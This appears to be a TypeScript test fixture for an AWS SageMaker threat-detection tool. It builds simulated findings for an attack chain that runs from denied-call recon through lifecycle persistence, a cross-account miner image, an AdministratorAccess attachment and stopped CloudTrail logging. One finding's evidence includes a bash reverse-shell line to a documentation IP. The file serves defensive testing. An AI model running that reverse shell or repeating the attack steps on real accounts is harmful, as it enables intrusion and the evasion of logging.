import { buildIncidents } from '../../../src/core/incidents.js';
import type { Finding, Principal } from '../../../src/core/finding.js';
import { DETECT_REPORT_SCHEMA_ID, type DetectReport, type PrincipalSummary } from '../../../src/core/report.js';
import { severityRank } from '../../../src/playbook/severity.js';

/** Hand-built findings and detect reports of the contract's shape (src/core/finding.ts, src/core/report.ts). */
export const ACCOUNT = '111122223333';
export const OTHER_ACCOUNT = '444455556666';

export const attacker: Principal = {
  arn: `arn:aws:iam::${ACCOUNT}:user/data-scientist`,
  type: 'IAMUser',
  accountId: ACCOUNT,
  accessKeyId: 'AKIAIOSFODNN7EXAMPLE',
  issuerArn: null,
  key: `arn:aws:iam::${ACCOUNT}:user/data-scientist`,
};

export const EXEC_ROLE = `arn:aws:iam::${ACCOUNT}:role/SageMakerExecRole`;
export const execSession: Principal = {
  arn: `arn:aws:sts::${ACCOUNT}:assumed-role/SageMakerExecRole/SageMaker`,
  type: 'AssumedRole',
  accountId: ACCOUNT,
  accessKeyId: 'ASIAIOSFODNN7EXAMPLE',
  issuerArn: EXEC_ROLE,
  key: `${EXEC_ROLE}/SageMaker`,
};

export function finding(p: Partial<Finding> & Pick<Finding, 'ruleId' | 'eventName' | 'time'>): Finding {
  const eventId = p.eventId === undefined ? `ev-${p.eventName}-${p.time}` : p.eventId;
  return {
    id: `${p.ruleId}:${eventId}`,
    scenarios: [],
    severity: 'medium',
    signals: [],
    confidence: 'medium',
    title: p.ruleId,
    reason: `${p.eventName} flagged`,
    region: 'us-east-1',
    account: ACCOUNT,
    principal: attacker,
    sourceIp: '203.0.113.10',
    userAgent: 'aws-cli/2.15.0 Python/3.11.6 Linux/6.1 exe/x86_64',
    eventSource: 'sagemaker.amazonaws.com',
    eventId,
    relatedEventIds: [],
    errorCode: null,
    resources: [],
    mitre: [],
    tactics: [],
    evidence: {},
    ...p,
  };
}

export function report(findings: Finding[], over: Partial<DetectReport> = {}): DetectReport {
  const byKey = new Map<string, Finding[]>();
  for (const f of findings) byKey.set(f.principal.key, [...(byKey.get(f.principal.key) ?? []), f]);
  const principals: PrincipalSummary[] = [...byKey.values()].map((fs) => {
    const times = fs.map((f) => f.time).sort();
    const p = fs[0]!.principal;
    return {
      key: p.key,
      arn: p.arn,
      type: p.type,
      accessKeyIds: [...new Set(fs.map((f) => f.principal.accessKeyId).filter((k): k is string => k !== null))],
      sourceIps: [...new Set(fs.map((f) => f.sourceIp).filter((k): k is string => k !== null))],
      findings: fs.length,
      maxSeverity: fs.reduce((m, f) => (severityRank(f.severity) > severityRank(m) ? f.severity : m), fs[0]!.severity),
      eventNames: [...new Set(fs.map((f) => f.eventName))],
      firstSeen: times[0]!,
      lastSeen: times[times.length - 1]!,
    };
  });
  return {
    schema: DETECT_REPORT_SCHEMA_ID,
    generatedAt: '2026-11-27T12:00:00.000Z',
    window: { start: '2026-11-27T00:00:00.000Z', end: '2026-11-27T12:00:00.000Z' },
    sources: [{ kind: 'files', inputs: ['fixtures/incident'] }],
    stats: { unitsRead: 4, recordsRead: 120, recordsMatched: findings.length, duplicates: 0, skipped: {}, errors: [], skippedFiles: [] },
    partial: false,
    findings,
    aggregated: [],
    suppressed: [],
    principals,
    incidents: buildIncidents(findings),
    ...over,
  };
}

const NB = `arn:aws:sagemaker:us-east-1:${ACCOUNT}:notebook-instance/nb-pivot`;
const LC = `arn:aws:sagemaker:us-east-1:${ACCOUNT}:notebook-instance-lifecycle-config/lc-persist`;
const JOB = `arn:aws:sagemaker:us-east-1:${ACCOUNT}:training-job/tj-gpu`;
const PKG = `arn:aws:sagemaker:us-east-1:${ACCOUNT}:model-package/churn/3`;
const TRAIL = `arn:aws:cloudtrail:us-east-1:${ACCOUNT}:trail/main`;
export const RES = { NB, LC, JOB, PKG, TRAIL };

/**
 * An incident like the fixture's, with the shapes the classifier gives (scenarios, reasons, evidence
 * keys): recon, an insecure notebook with the exec role, a reverse shell, persistence, pivot, poisoning, tampering.
 */
export function incidentFindings(): Finding[] {
  const d = (m: string) => `2026-11-27T08:${m}:00Z`;
  const viaRole = { principal: execSession, sourceIp: '198.51.100.7', userAgent: 'Boto3/1.34.0 Python/3.10 Linux' };
  return [
    finding({ ruleId: 'failed-call-burst', eventName: 'ListNotebookInstances', time: d('00'), errorCode: 'AccessDenied', scenarios: ['credential-theft'], title: 'Burst of denied calls', reason: '12 AccessDenied errors in 5 minutes', evidence: { count: 12, errorCodes: ['AccessDenied'], operations: ['ListNotebookInstances', 'ListTrainingJobs'] } }),
    finding({ ruleId: 'scenario-event', eventName: 'CreateNotebookInstance', eventId: 'ev-create-nb', time: d('05'), confidence: 'weak', severity: 'low', scenarios: ['resource-misuse', 'malware-deployment', 'cryptojacking'], resources: [NB] }),
    finding({ ruleId: 'notebook-insecure-config', eventName: 'CreateNotebookInstance', eventId: 'ev-create-nb', time: d('05'), severity: 'high', scenarios: ['resource-misuse', 'malware-deployment', 'configuration-changes'], resources: [NB], title: 'Notebook instance with root access or direct internet access', reason: 'CreateNotebookInstance with RootAccess Enabled (by default: not set in the request) and DirectInternetAccess Enabled (by default: not set in the request)', evidence: { rootAccess: 'Enabled', rootAccessByDefault: true, directInternetAccess: 'Enabled', directInternetAccessByDefault: true } }),
    finding({ ruleId: 'execution-role-passed', eventName: 'CreateNotebookInstance', eventId: 'ev-create-nb', time: d('05'), severity: 'medium', scenarios: ['resource-misuse', 'credential-theft'], resources: [NB, EXEC_ROLE], title: 'Execution role passed', reason: `CreateNotebookInstance passed role ${EXEC_ROLE} (caller used a long-term access key)`, evidence: { roleArn: EXEC_ROLE, callerCredential: 'long-term access key' } }),
    finding({ ruleId: 'lifecycle-script-suspicious', eventName: 'CreateNotebookInstanceLifecycleConfig', eventId: 'ev-lc', time: d('10'), severity: 'critical', confidence: 'strong', scenarios: ['malware-deployment', 'credential-theft', 'cryptojacking', 'configuration-changes'], resources: [LC], title: 'Reverse shell in lifecycle script', reason: 'OnStart script: reverse shell: bash -i >& /dev/tcp/203.0.113.10/4444 0>&1', evidence: { hook: 'OnStart', line: 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1', indicators: ['reverse shell'], matchingLines: ['OnStart: bash -i >& /dev/tcp/203.0.113.10/4444 0>&1'] } }),
    finding({ ruleId: 'notebook-lifecycle-persistence', eventName: 'StopNotebookInstance', eventId: 'ev-stop', relatedEventIds: ['ev-stop', 'ev-update', 'ev-start'], time: d('12'), severity: 'high', confidence: 'strong', scenarios: ['malware-deployment', 'configuration-changes', 'credential-theft'], resources: ['nb-pivot', 'lc-persist'], title: 'Lifecycle persistence', reason: 'notebook nb-pivot stopped, given lifecycle config lc-persist and started again within 3 min', evidence: { notebookInstanceName: 'nb-pivot', lifecycleConfigName: 'lc-persist', sequence: [`${d('12')} StopNotebookInstance`, `${d('13')} UpdateNotebookInstance`, `${d('15')} StartNotebookInstance`] } }),
    finding({ ruleId: 'presigned-url-access', eventName: 'CreatePresignedNotebookInstanceUrl', eventId: 'ev-url', time: d('20'), severity: 'medium', scenarios: ['credential-theft', 'data-model-exfiltration'], resources: [NB], title: 'Presigned notebook URL', reason: 'a URL to the notebook shell was created' }),
    finding({ ruleId: 'scenario-event', eventName: 'DescribeModelPackage', eventId: 'ev-pkg', time: d('30'), confidence: 'weak', severity: 'low', ...viaRole, scenarios: ['data-model-exfiltration', 'credential-theft'], resources: [PKG] }),
    finding({ ruleId: 'cross-account-artifact', eventName: 'CreateTrainingJob', eventId: 'ev-tj', time: d('35'), severity: 'high', ...viaRole, scenarios: ['data-model-exfiltration', 'data-poisoning'], resources: [JOB, `${OTHER_ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com/miner:latest`], title: 'Artifact from another account', reason: `CreateTrainingJob names an artifact in account ${OTHER_ACCOUNT} (event account ${ACCOUNT}): ${OTHER_ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com/miner:latest`, evidence: { artifacts: [`${OTHER_ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com/miner:latest`], foreignAccounts: [OTHER_ACCOUNT], eventAccount: ACCOUNT } }),
    finding({ ruleId: 'large-instance-type', eventName: 'CreateTrainingJob', eventId: 'ev-tj', time: d('35'), severity: 'high', ...viaRole, scenarios: ['cryptojacking', 'resource-misuse', 'denial-of-service'], resources: [JOB], title: 'GPU instance', reason: 'ml.p4d.24xlarge is a GPU instance type', evidence: { instanceTypes: ['ml.p4d.24xlarge'], why: 'GPU/accelerated' } }),
    finding({ ruleId: 'sagemaker-role-iam-change', eventName: 'AttachRolePolicy', eventSource: 'iam.amazonaws.com', eventId: 'ev-iam', time: d('40'), severity: 'high', scenarios: ['configuration-changes', 'credential-theft'], title: 'SageMaker role changed', reason: 'AttachRolePolicy attached arn:aws:iam::aws:policy/AdministratorAccess to SageMakerExecRole (a role passed to SageMaker)', evidence: { roleName: 'SageMakerExecRole', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess', knownBy: 'passed to SageMaker' } }),
    finding({ ruleId: 'log-tampering', eventName: 'StopLogging', eventSource: 'cloudtrail.amazonaws.com', eventId: 'ev-stoplog', time: d('50'), severity: 'critical', confidence: 'strong', scenarios: ['log-tampering'], title: 'Trail stopped', reason: 'StopLogging on trail main', evidence: { target: TRAIL, succeeded: true } }),
  ];
}
